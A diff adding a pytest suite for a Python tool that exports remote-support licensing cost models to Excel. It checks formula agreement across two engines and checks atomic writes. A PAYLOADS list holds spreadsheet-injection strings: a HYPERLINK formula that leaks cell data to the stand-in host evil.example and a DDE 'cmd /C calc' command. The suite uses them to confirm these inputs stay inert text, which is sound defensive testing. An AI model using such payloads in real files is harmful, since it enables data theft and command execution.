@@ -1,0 +1,377 @@
+"""The workbook: its live formulas agree with the Python model, recomputed by two engines."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+from pathlib import Path
+
+import formulas
+import openpyxl
+import pytest
+import yaml
+from hypothesis import HealthCheck, given, settings
+
+from rhmodel.core.document import parse_yaml
+from rhmodel.core.money.evaluation import evaluate
+from rhmodel.core.money.scenarios import analyse
+from rhmodel.core.products import SCENARIOS
+from rhmodel.edges.bundled import SAMPLE_PARAMS_FILE, load_capabilities
+from rhmodel.edges.paramfile import load_parameters, parse_parameters
+from rhmodel.edges.provenance import provenance
+from rhmodel.edges.workbook import METRICS, put_formula, write_workbook
+from tests.core.test_scenarios import param_sets
+
+HALF_CENT = 0.005
+
+
+def _write(params, path: Path, pilot=None, draws=200) -> Path:
+    matrix = load_capabilities()
+    write_workbook(evaluate(params, matrix, draws=draws), matrix, provenance(params), path, pilot)
+    return path
+
+
+def _name_cells(path: Path) -> dict[str, str]:
+    """Defined name → formulas-package cell key, read from the file itself."""
+    wb = openpyxl.load_workbook(path)
+    out = {}
+    for name, dn in wb.defined_names.items():
+        sheet, ref = dn.attr_text.rsplit("!", 1)
+        sheet = sheet.strip("'")
+        out[name] = f"'[{path.name}]{sheet.upper()}'!{ref.replace('$', '')}"
+    return out
+
+
+def _cells(v) -> list:
+    """Every value of a formulas result (a cell or a range), as plain Python values."""
+    import numpy as np
+
+    raw = v.value if hasattr(v, "value") else v
+    return [x.item() if hasattr(x, "item") else x for x in np.asarray(raw, dtype=object).ravel()]
+
+
+def _value(v):
+    values = _cells(v)
+    assert len(values) == 1, values
+    return values[0]
+
+
+def _expected(analysis, scenario: str, metric: str):
+    v = getattr(analysis.scenario(scenario), metric)
+    if v is None:
+        return "" if metric == "roi" else "never"
+    return v
+
+
+def _assert_equal(got, want, label):
+    if isinstance(want, str):
+        assert got == want, label
+    else:
+        assert abs(float(got) - want) <= HALF_CENT, (label, got, want)
+
+
+class Recalculated:
+    """A workbook computed by the ``formulas`` package, addressable by defined name."""
+
+    def __init__(self, path: Path) -> None:
+        self.names = _name_cells(path)
+        self.model = formulas.ExcelModel().loads(str(path)).finish()
+        self.solution = self.model.calculate()
+
+    def __getitem__(self, name: str):
+        return _value(self.solution[self.names[name]])
+
+    def recalc(self, **changes) -> None:
+        inputs = {self.names[k]: v for k, v in changes.items()}
+        self.solution = self.model.calculate(inputs=inputs)
+
+    def errors(self) -> list[str]:
+        bad = []
+        for key, v in self.solution.items():
+            for x in _cells(v):
+                if isinstance(x, formulas.functions.XlError) or (
+                    isinstance(x, str) and x.startswith("#") and x.endswith(("!", "?", "A"))
+                ):
+                    bad.append(f"{key}: {x}")
+        return bad
+
+
+@pytest.fixture(scope="module")
+def sample_book(tmp_path_factory):
+    path = tmp_path_factory.mktemp("book") / "book.xlsx"
+    return _write(load_parameters(SAMPLE_PARAMS_FILE), path), load_parameters(SAMPLE_PARAMS_FILE)
+
+
+def test_sample_workbook_agrees_with_the_model_and_follows_input_changes(sample_book):
+    path, params = sample_book
+    book = Recalculated(path)
+    assert book.errors() == []
+    a = analyse(params, load_capabilities())
+    for s in SCENARIOS:
+        for metric in METRICS:
+            _assert_equal(book[f"{s}_{metric}"], _expected(a, s, metric), f"{s}_{metric}")
+    assert book["recommended_scenario"] == a.recommended
+    # an input changed inside the workbook, through its name, recomputed
+    book.recalc(logmein_price_per_agent_month=94, discount_rate=0.07)
+    b = analyse(
+        params.with_overrides(["logmein.price_per_agent_month=94", "discount_rate=0.07"]),
+        load_capabilities(),
+    )
+    for s in SCENARIOS:
+        for metric in METRICS:
+            _assert_equal(book[f"{s}_{metric}"], _expected(b, s, metric), f"{s}_{metric}")
+    assert book.errors() == []
+
+
+def test_inputs_are_named_styled_and_validated(sample_book):
+    path, params = sample_book
+    wb = openpyxl.load_workbook(path)
+    names = wb.defined_names
+    for key in (
+        "discount_rate",
+        "logmein_price_per_agent_month",
+        "logmein_agents",
+        "residual_logmein_agents",
+        "beyondtrust_price_per_seat_year",
+        "right_size_npv",
+        "status_quo_total_cost",
+        "cancel_savings",
+    ):
+        assert key in names, key
+    sheet, ref = names["logmein_agents"].attr_text.rsplit("!", 1)
+    cell = wb[sheet.strip("'")][ref.replace("$", "")]
+    assert cell.value == params["logmein.agents"]
+    assert cell.font.color.rgb.endswith("0000CC")
+    validations = wb["Inputs"].data_validations.dataValidation
+    assert any(dv.formula1 == '"monthly,annual"' for dv in validations)
+    assert wb["Summary"].freeze_panes == "A5"
+    assert {
+        "About",
+        "Summary",
+        "Inputs",
+        "Decision",
+        "Capabilities",
+        "Cash flows",
+        "Sensitivity",
+        "Simulation",
+    } <= set(wb.sheetnames)
+    about = "\n".join(str(c.value) for row in wb["About"].iter_rows() for c in row if c.value)
+    assert "ILLUSTRATIVE" in about and params.digest() in about
+
+
+@settings(
+    max_examples=20,
+    deadline=None,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+)
+@given(p=param_sets)
+def test_random_parameter_sets_agree(tmp_path_factory, p):
+    p = {**p, "horizon_months": min(p["horizon_months"], 24)}  # keeps each workbook small
+    params = parse_parameters(parse_yaml(yaml.safe_dump(p), "p.yaml"))
+    path = _write(params, tmp_path_factory.mktemp("h") / "h.xlsx", draws=10)
+    book = Recalculated(path)
+    a = analyse(params, load_capabilities())
+    for s in SCENARIOS:
+        for metric in METRICS:
+            _assert_equal(book[f"{s}_{metric}"], _expected(a, s, metric), f"{s}_{metric}")
+    assert book.errors() == []
+
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "@SUM(1+1)",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_outside_text_stays_inert(tmp_path):
+    head = "session_id,tool,start,end,technician,reason\n"
+    rows = "".join(
+        f'bt{i},beyondtrust,2027-01-04T09:0{i}:00Z,2027-01-04T09:30:00Z,"{p}",pam\n'
+        for i, p in enumerate(x.replace('"', '""') for x in PAYLOADS)
+    )
+    (tmp_path / "pilot.csv").write_text(head + rows)
+    params_file = tmp_path / "p.yaml"
+    params_file.write_text(
+        yaml.safe_dump(
+            {
+                "organisation": '=HYPERLINK("http://evil.example")',
+                "beyondtrust": {
+                    "concurrent_seats": 10,
+                    "price_per_seat_year": 2000,
+                    "months_to_renewal": 2,
+                },
+                "pilot": {"files": ["pilot.csv"]},
+            }
+        )
+    )
+    from rhmodel.edges.pilotfiles import load_pilot
+
+    params = load_parameters(params_file)
+    report = load_pilot([tmp_path / "pilot.csv"], load_capabilities())
+    path = _write(params, tmp_path / "book.xlsx", pilot=report)
+    wb = openpyxl.load_workbook(path)
+    # XML reads a carriage return back as a line feed: the text is otherwise unchanged
+    wanted = {p.replace("\r", "\n") for p in [*PAYLOADS, params["organisation"]]}
+    seen = {}
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                if isinstance(c.value, str) and c.value in wanted:
+                    seen[c.value] = c
+    assert set(seen) == wanted
+    for text, c in seen.items():
+        assert c.data_type == "s", text
+        assert c.quotePrefix, text
+    # and no engine evaluates them: formulas reads them back as the same text
+    book = Recalculated(path)
+    texts = {x for v in book.solution.values() for x in _cells(v)}
+    assert wanted <= texts
+
+
+def test_formula_writer_refuses_other_functions():
+    ws = openpyxl.Workbook().active
+    with pytest.raises(ValueError, match="INDIRECT"):
+        put_formula(ws["A1"], '=INDIRECT("A2")')
+    with pytest.raises(ValueError, match="must start"):
+        put_formula(ws["A1"], "SUM(A1)")
+    put_formula(ws["A1"], '=IF(A2="WEBSERVICE(x)",1,0)')  # a function name inside a string
+
+
+def test_cli_writes_atomically_and_refuses_bad_paths(cli, tmp_path):
+    out = tmp_path / "book.xlsx"
+    r = cli("excel", SAMPLE_PARAMS_FILE, "--out", out, "--simulate", "100")
+    assert r.returncode == 0, r.stderr
+    good = out.read_bytes()
+    # a failing run (bad parameter) leaves the good workbook untouched, with no stray files
+    r = cli("excel", SAMPLE_PARAMS_FILE, "--set", "discount_rate=3", "--out", out)
+    assert r.returncode == 2 and r.stderr.startswith("error: --set: discount_rate")
+    assert out.read_bytes() == good
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["book.xlsx"]
+    r = cli("excel", SAMPLE_PARAMS_FILE, "--out", tmp_path / "book.csv")
+    assert r.returncode == 2 and "must end in .xlsx" in r.stderr
+    r = cli("excel", SAMPLE_PARAMS_FILE, "--out", tmp_path / "no" / "book.xlsx")
+    assert r.returncode == 2 and "folder does not exist" in r.stderr
+
+
+def test_a_failure_while_writing_keeps_the_old_file(tmp_path, monkeypatch):
+    import rhmodel.edges.workbook as wbmod
+
+    params = load_parameters(SAMPLE_PARAMS_FILE)
+    path = _write(params, tmp_path / "book.xlsx", draws=10)
+    before = path.read_bytes()
+
+    def boom(_wb):
+        raise OSError("disk full")
+
+    monkeypatch.setattr(wbmod, "workbook_bytes", boom)
+    with pytest.raises(OSError):
+        _write(params, path, draws=10)
+    assert path.read_bytes() == before
+
+
+# ---- LibreOffice ----------------------------------------------------------------------------
+
+SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
+needs_soffice = pytest.mark.skipif(
+    SOFFICE is None and os.environ.get("CI") != "true",
+    reason="LibreOffice (soffice) is not installed on this machine; CI installs "
+    "libreoffice-calc-nogui and runs this test",
+)
+
+RECALC_PROFILE = """<?xml version="1.0" encoding="UTF-8"?>
+<oor:items xmlns:oor="http://openoffice.org/2001/registry"
+           xmlns:xs="http://www.w3.org/2001/XMLSchema"
+           xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
+<item oor:path="/org.openoffice.Office.Calc/Formula/Load">
+  <prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop>
+</item>
+</oor:items>
+"""
+
+
+def libreoffice_recalculated(path: Path, out_dir: Path) -> Path:
+    """Open ``path`` in headless LibreOffice, recalculate everything, save a copy."""
+    assert SOFFICE, "CI must install libreoffice-calc-nogui"
+    profile = out_dir / "profile"
+    (profile / "user").mkdir(parents=True, exist_ok=True)
+    (profile / "user" / "registrymodifications.xcu").write_text(RECALC_PROFILE)
+    result = subprocess.run(
+        [
+            SOFFICE,
+            f"-env:UserInstallation=file://{profile}",
+            "--headless",
+            "--norestore",
+            "--convert-to",
+            "xlsx",
+            "--outdir",
+            str(out_dir / "out"),
+            str(path),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=240,
+    )
+    converted = out_dir / "out" / path.name
+    assert converted.exists(), result.stdout + result.stderr
+    return converted
+
+
+@needs_soffice
+def test_libreoffice_recalculation_agrees(tmp_path):
+    params = load_parameters(
+        SAMPLE_PARAMS_FILE,
+        [
+            "logmein.price_per_agent_month=71.25",
+            "remote_help.licensing=add_on",
+            "remote_help.licensed_users=300",
+            "risk_adjustment.benefit_haircut=0.1",
+        ],
+    )
+    path = _write(params, tmp_path / "book.xlsx", draws=10)
+    converted = libreoffice_recalculated(path, tmp_path)
+    wb = openpyxl.load_workbook(converted, data_only=True)  # also: it re-opens, no repair
+    a = analyse(params, load_capabilities())
+    for s in SCENARIOS:
+        for metric in METRICS:
+            sheet, ref = wb.defined_names[f"{s}_{metric}"].attr_text.rsplit("!", 1)
+            got = wb[sheet.strip("'")][ref.replace("$", "")].value
+            want = _expected(a, s, metric)
+            if want == "":
+                assert got in ("", None), (s, metric, got)
+            else:
+                _assert_equal(got, want, f"{s}_{metric}")
+    errors = [
+        f"{ws.title}!{c.coordinate}={c.value}"
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if isinstance(c.value, str)
+        and c.value.startswith("#")
+        and c.value.endswith(("!", "?", "A", "0"))
+    ]
+    assert errors == []
+    # the injection payloads survive LibreOffice as text, too
+    head = "session_id,tool,start,end,technician,reason\n"
+    (tmp_path / "pilot.csv").write_text(
+        head
+        + "".join(
+            f'b{i},beyondtrust,2027-01-04T09:00:00Z,2027-01-04T09:30:00Z,"{p}",pam\n'
+            for i, p in enumerate(x.replace('"', '""') for x in PAYLOADS)
+        )
+    )
+    from rhmodel.edges.pilotfiles import load_pilot
+
+    report = load_pilot([tmp_path / "pilot.csv"], load_capabilities())
+    path2 = _write(params, tmp_path / "inj.xlsx", pilot=report, draws=10)
+    converted2 = libreoffice_recalculated(path2, tmp_path)
+    texts = {
+        c.value
+        for row in openpyxl.load_workbook(converted2, data_only=True)["Pilot"].iter_rows()
+        for c in row
+    }
+    assert {p.replace("\r", "\n") for p in PAYLOADS} <= texts
